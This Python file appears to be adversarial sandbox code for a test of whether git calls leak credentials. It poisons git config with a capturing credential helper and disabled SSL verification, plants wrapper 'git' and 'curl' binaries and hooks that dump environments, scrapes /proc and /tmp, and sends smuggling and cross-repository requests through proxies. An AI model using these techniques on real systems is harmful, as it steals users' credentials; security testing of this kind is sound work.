"""Sandbox code that hunts for git credentials while the host runs git calls (tests/test_git_credentials.py).

It never knows the secrets: it collects whatever it can reach into ~/loot, and the test searches that
(and every other file of the sandbox) on the host.

  plant PORT URL         ~/.gitconfig redirecting git to a listener on PORT, a `git` first on PATH,
                         hooks in a template folder, trace2 targets
  scan PORT AUTHORITY    listen on PORT; scan /proc and /tmp; attack any proxy port git is given
  poison REPO PORT URL   the same redirections in the repository's own config, and its hooks
  hook NAME              (run by git as a hook) dump what the hook sees, attack the proxy, trace git
"""

import glob
import json
import os
import re
import socket
import ssl
import subprocess
import sys
import threading
import time

HOME = os.path.expanduser("~")
LOOT = os.path.join(HOME, "loot")
HOOKS = ("pre-push", "reference-transaction", "post-merge", "post-checkout", "pre-receive", "post-rewrite")


def loot(name, data, mode="ab"):
    os.makedirs(LOOT, exist_ok=True)
    with open(os.path.join(LOOT, name), mode) as handle:
        handle.write(data if isinstance(data, bytes) else data.encode())


def write_hooks(folder):
    os.makedirs(folder, exist_ok=True)
    for name in HOOKS:
        path = os.path.join(folder, name)
        with open(path, "w") as handle:
            handle.write(f'#!/bin/sh\nexec python3 {os.path.abspath(__file__)} hook {name} "$@"\n')
        os.chmod(path, 0o755)


def gitconfig(port, url):
    return (
        f"[http]\n\tproxy = http://127.0.0.1:{port}\n\textraHeader = X-Evil: 1\n\tsslVerify = false\n"
        f'[http "{url}"]\n\tproxy = http://127.0.0.1:{port}\n'
        f'[http "https://*.invalid"]\n\tproxy = http://127.0.0.1:{port}\n'
        f'[url "http://127.0.0.1:{port}/"]\n\tinsteadOf = https://\n\tinsteadOf = http://\n'
        f'[url "http://127.0.0.1:{port}/exact/"]\n\tinsteadOf = {url}\n'
        f'[credential]\n\thelper = "!f() {{ cat >> {LOOT}/helper.txt; }}; f"\n'
        f"[core]\n\thooksPath = {HOME}/evilhooks\n\tsshCommand = touch {LOOT}/ssh\n"
        f"[init]\n\ttemplateDir = {HOME}/template\n"
        f"[trace2]\n\teventTarget = {LOOT}/trace2-event.json\n\tnormalTarget = {LOOT}/trace2-normal.txt\n"
        f"\tconfigParams = *\n\tenvVars = *\n"
    )


def plant(port, url):
    os.makedirs(LOOT, exist_ok=True)
    with open(os.path.join(HOME, ".gitconfig"), "w") as handle:
        handle.write(gitconfig(port, url))
    os.makedirs(os.path.join(HOME, ".config", "git"), exist_ok=True)
    with open(os.path.join(HOME, ".config", "git", "config"), "w") as handle:
        handle.write(gitconfig(port, url))
    write_hooks(os.path.join(HOME, "evilhooks"))
    write_hooks(os.path.join(HOME, "template", "hooks"))
    bindir = os.path.join(HOME, ".local", "bin")
    os.makedirs(bindir, exist_ok=True)
    for name in ("git", "git-remote-https", "git-remote-http", "curl"):
        path = os.path.join(bindir, name)
        with open(path, "w") as handle:
            handle.write(f'#!/bin/sh\n{{ echo "{name} $*"; env; }} >> {LOOT}/wrapper.txt\nexec /usr/bin/{name} "$@"\n')
        os.chmod(path, 0o755)


def poison(repo, port, url):
    def config(*args):
        subprocess.run(["/usr/bin/git", "-C", repo, "config", *args], check=True)

    config("http.proxy", f"http://127.0.0.1:{port}")
    config(f"http.{url}.proxy", f"http://127.0.0.1:{port}")
    config("http.https://*.invalid.proxy", f"http://127.0.0.1:{port}")
    config("http.sslVerify", "false")
    config("--add", f"url.http://127.0.0.1:{port}/.insteadOf", "https://")
    config(f"url.http://127.0.0.1:{port}/exact/.insteadOf", url)
    config(f"url.http://127.0.0.1:{port}/push/.pushInsteadOf", url)
    config("remote.origin.url", f"http://127.0.0.1:{port}/evil.git")
    config("remote.origin.proxy", f"http://127.0.0.1:{port}")
    config("credential.helper", f"!f() {{ cat >> {LOOT}/helper.txt; }}; f")
    write_hooks(os.path.join(repo, ".git", "hooks"))


# -- attacks on the call's proxy port -----------------------------------------------------------


def request(port, connect_to, raw, tls=True):
    """Send `raw` through the proxy at `port` (inside CONNECT `connect_to` when tls); the answer."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
    try:
        if connect_to:
            sock.sendall(f"CONNECT {connect_to} HTTP/1.1\r\nHost: {connect_to}\r\n\r\n".encode())
            head = b""
            while b"\r\n\r\n" not in head:
                data = sock.recv(4096)
                if not data:
                    break
                head += data
            if not head.startswith(b"HTTP/1.1 200"):
                return head
            if tls:
                context = ssl.create_default_context()
                context.check_hostname = False
                context.verify_mode = ssl.CERT_NONE
                sock = context.wrap_socket(sock, server_hostname=connect_to.rsplit(":", 1)[0])
        sock.sendall(raw)
        answer = b""
        while len(answer) < 1_000_000:
            try:
                data = sock.recv(65536)
            except (OSError, ssl.SSLError):
                break
            if not data:
                break
            answer += data
            if b"\r\n\r\n" in answer and (
                b"Connection: close" in answer or b"0\r\n\r\n" in answer or re.search(rb"Content-Length: 0\r\n", answer)
            ):
                break
        return answer
    finally:
        sock.close()


def attack(port, authority, path, label):
    """Everything one connection to the proxy can try; the answers go to the loot."""
    base = path.rstrip("/")
    tries = {
        "same-repo": (
            authority,
            f"GET {base}/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: {authority}\r\n"
            "Authorization: Basic Zm9vOmJhcg==\r\nConnection: close\r\n\r\n",
        ),
        "other-service": (
            authority,
            f"GET {base}/info/refs?service=git-receive-pack HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        ),
        "other-repo": (
            authority,
            "GET /other.git/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
        ),
        "trace-method": (authority, f"TRACE {base}/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: x\r\n\r\n"),
        "dumb-http": (authority, f"GET {base}/HEAD HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"),
        "smuggle": (
            authority,
            f"POST {base}/git-upload-pack HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
            "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        ),
        "other-host": ("example.invalid:443", "GET / HTTP/1.1\r\nHost: example.invalid\r\n\r\n"),
        "absolute-form": (
            None,
            f"GET http://{authority}{base}/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: {authority}\r\n\r\n",
        ),
    }
    answers = []
    for name, (connect_to, raw) in tries.items():
        try:
            answer = request(port, connect_to, raw.encode())
        except (OSError, ssl.SSLError) as exc:
            answer = f"failed: {exc}".encode()
        loot(f"proxy-{label}.bin", f"== {name}\n".encode() + answer + b"\n")
        answers.append([name, answer.split(b"\r\n", 1)[0].decode("latin-1")])
    loot("answers.jsonl", json.dumps({"label": label, "answers": answers}) + "\n")


PROXY = re.compile(rb"http://127\.0\.0\.1:(\d+)")


def proxy_ports(blob, evil):
    return {int(p) for p in PROXY.findall(blob) if int(p) != evil}


# -- modes -------------------------------------------------------------------------------------


def listen(port, hits):
    server = socket.socket()
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", port))
    server.listen(16)
    while True:
        conn, _ = server.accept()
        hits.append(1)

        def take(conn=conn):
            conn.settimeout(3)
            data = b""
            try:
                while len(data) < 1_000_000:
                    chunk = conn.recv(65536)
                    if not chunk:
                        break
                    data += chunk
                    if data.startswith(b"CONNECT") and b"\r\n\r\n" in data and b"200" not in data[-40:]:
                        conn.sendall(b"HTTP/1.1 200 Connection established\r\n\r\n")
            except OSError:
                pass
            loot("listener.bin", data + b"\n")
            conn.close()

        threading.Thread(target=take, daemon=True).start()


def scan(port, authority, path):
    hits = []
    threading.Thread(target=listen, args=(port, hits), daemon=True).start()
    seen, attacked, saw_git = set(), set(), False
    loot("state", "scanning\n", "wb")
    started = time.time()
    while not os.path.exists(os.path.join(LOOT, "stop")) and time.time() - started < 600:
        for folder in glob.glob("/proc/[0-9]*"):
            if folder == f"/proc/{os.getpid()}":
                continue
            for part in ("environ", "cmdline"):
                try:
                    with open(f"{folder}/{part}", "rb") as handle:
                        data = handle.read()
                except OSError:
                    continue
                if data and data not in seen:
                    seen.add(data)
                    loot("proc.bin", f"== {folder}/{part}\n".encode() + data + b"\n")
                    if b"GIT_CONFIG" in data and b"http" in data and b"proxy" in data:
                        saw_git = True
                    for found in proxy_ports(data, port) - attacked:
                        attacked.add(found)
                        threading.Thread(
                            target=attack, args=(found, authority, path, f"scan-{found}"), daemon=True
                        ).start()
        for name in glob.glob("/tmp/*") + glob.glob("/tmp/.*"):
            try:
                if os.path.isfile(name) and os.path.getsize(name) < 1_000_000:
                    with open(name, "rb") as handle:
                        data = handle.read()
                    if data not in seen:
                        seen.add(data)
                        loot("files.bin", f"== {name}\n".encode() + data + b"\n")
            except OSError:
                pass
        time.sleep(0.01)
    time.sleep(1)
    answers = []
    try:
        with open(os.path.join(LOOT, "answers.jsonl")) as handle:
            for line in handle:
                answers += json.loads(line)["answers"]
    except OSError:
        pass
    try:
        with open(os.path.join(LOOT, "hooks.txt")) as handle:
            hooks = sorted(set(handle.read().split()))
    except OSError:
        hooks = []
    loot(
        "report.json",
        json.dumps(
            {
                "saw_git": saw_git,
                "proxy_ports": sorted(attacked),
                "hooks": hooks,
                "proxy_answers": answers,
                "listener_hits": len(hits),
            }
        ),
        "wb",
    )
    loot("state", "stopped\n", "wb")


def hook(name):
    if name == "pre-push":
        sys.stdin.read()
    loot("hooks.txt", name + "\n")
    blob = f"== hook {name} argv {sys.argv}\n".encode()
    blob += b"\0".join(f"{k}={v}".encode() for k, v in os.environ.items()) + b"\n"
    pid = os.getppid()
    while pid > 1:
        for part in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{part}", "rb") as handle:
                    blob += f"== /proc/{pid}/{part}\n".encode() + handle.read() + b"\n"
            except OSError:
                pass
        try:
            with open(f"/proc/{pid}/stat") as handle:
                pid = int(handle.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    loot(f"hook-{name}.bin", blob)
    keys = {v for k, v in os.environ.items() if k.startswith("GIT_CONFIG_KEY_")}
    aliases = [m.group(1) for k in keys for m in [re.match(r"url\.(.+)\.insteadof$", k, re.IGNORECASE)] if m]
    for found in proxy_ports(blob, -1):
        authority = aliases[0].split("/")[2] if aliases else "unknown"
        if ":" not in authority:
            authority += ":443"
        path = "/" + aliases[0].split("/", 3)[3] if aliases else "/repo.git"
        attack(found, authority, path, f"hook-{name}-{found}")
    if aliases:
        # The sandbox's own git through the proxy, tracing every header that comes back.
        env = {
            **os.environ,
            "GIT_TRACE_CURL": f"{LOOT}/curl-{name}.txt",
            "GIT_TRACE_REDACT": "0",
            "GIT_TRACE": f"{LOOT}/trace-{name}.txt",
            "GIT_TRACE_PACKET": f"{LOOT}/packet-{name}.txt",
        }
        result = subprocess.run(["git", "ls-remote", aliases[0]], env=env, capture_output=True, timeout=60)
        loot(f"ls-remote-{name}.txt", result.stdout + result.stderr)


if __name__ == "__main__":
    mode = sys.argv[1]
    if mode == "plant":
        plant(int(sys.argv[2]), sys.argv[3])
    elif mode == "scan":
        scan(int(sys.argv[2]), sys.argv[3], sys.argv[4] if len(sys.argv) > 4 else "/repo.git")
    elif mode == "poison":
        poison(os.path.abspath(sys.argv[2]), int(sys.argv[3]), sys.argv[4])
    elif mode == "hook":
        try:
            hook(sys.argv[2])
        except Exception as exc:  # a hook that fails would fail the user's git call; record instead
            loot("hook-errors.txt", f"{sys.argv[2]}: {exc!r}\n")
